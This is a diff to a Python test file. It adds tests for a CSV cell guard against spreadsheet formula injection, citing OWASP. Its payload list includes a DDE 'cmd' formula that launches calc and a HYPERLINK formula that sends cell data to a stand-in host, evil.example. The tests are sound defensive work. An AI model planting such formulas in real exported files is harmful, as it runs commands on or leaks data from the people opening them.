@@ -4,6 +4,7 @@ import csv
 import gzip
 import io
 import json
+import re
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta, timezone
 
@@ -17,6 +18,7 @@ from hypothesis import strategies as st
 from ibconnect.events.lines import line
 from ibconnect.events.selection import Stored
 from ibconnect.events.wire import encode_message, fields_of
+from ibconnect.http.csv import text_cell
 from ibconnect.http.documents import Document, DocumentCache
 from ibconnect.http.headers import best_encoding, best_media, max_age, prefers_fresh
 from ibconnect.http.parameters import (
@@ -291,7 +293,74 @@ async def test_a_series_has_every_cell_in_its_place(points: list[tuple[str, str 
     assert [text if text is None else str(text) for *_, text in found] == texts
     table = b"".join([chunk async for chunk in as_csv(series, pages())]).decode()
     rows = list(csv.reader(io.StringIO(table, newline="")))[1:]
-    assert rows == [[at, number or "", text or ""] for at, number, text in wanted]
+    assert [[*row[:2], without_guard(row[2])] for row in rows] == [
+        [at, no or "", text or ""] for at, no, text in wanted
+    ]
+
+
+def read_back(text: str) -> str:
+    """The one cell of a table."""
+    ((cell,),) = csv.reader(io.StringIO(text, newline=""))
+    return cell
+
+
+def without_guard(cell: str) -> str:
+    """What was sent, of a cell: without the apostrophe that a guard has put before it."""
+    rest = cell[1:]
+    return rest if rest and read_back(text_cell(rest)) == cell else cell
+
+
+RUN = "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", " =1", "\x00=1", "\ufeff=1"
+RUN += (
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"x")',
+    "\uff1d1+1",
+    "\u22121+1",
+)
+RUN += (
+    "=DDE(1)",
+    "--1",
+    "-",
+    "=",
+    "+",
+    "@",
+    "-1,5",
+    "-x",
+    "-1 000",
+    "'=1",
+    "''@x",
+    "\u200b=1",
+    "\u00a0=1",
+    "-0.50x",
+    "-1E",
+    "0\n"[1:],
+)
+
+
+@pytest.mark.parametrize("text", RUN)
+def test_a_text_that_a_spreadsheet_would_run_is_guarded(text: str) -> None:
+    """OWASP, "CSV Injection". Read back as RFC 4180 has it, the cell begins with an apostrophe and is else the same."""
+    cell = read_back(text_cell(text))
+    assert cell == f"'{text}"
+    assert without_guard(cell) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["-0.50", "-0.00", "+1", "-1E5", "-007", "0", "", "a=b", "USD", "'", "'quoted'", "1-1", "5@x"]
+)
+def test_figures_and_harmless_texts_stay_as_they_are(text: str) -> None:
+    assert text_cell(text) == text
+
+
+@given(st.text(), st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "'=", " ", '"', "\uff1d"]))
+def test_no_cell_begins_a_formula_and_each_can_be_read_back(text: str, first: str) -> None:
+    sent = (first + text).replace("\x00", "")
+    cell = read_back(text_cell(sent)) if sent else ""
+    is_number = re.fullmatch(r"[+-]?\d+\.?\d*([Ee][+-]?\d+)?", cell, re.ASCII)
+    assert is_number or cell.strip().strip('"')[:1] not in ("=", "+", "-", "@")
+    assert cell[:1] not in ("\t", "\r", "\n")
+    assert without_guard(cell) == sent
 
 
 def test_remarks_of_the_api_are_those_that_the_tables_hold() -> None:
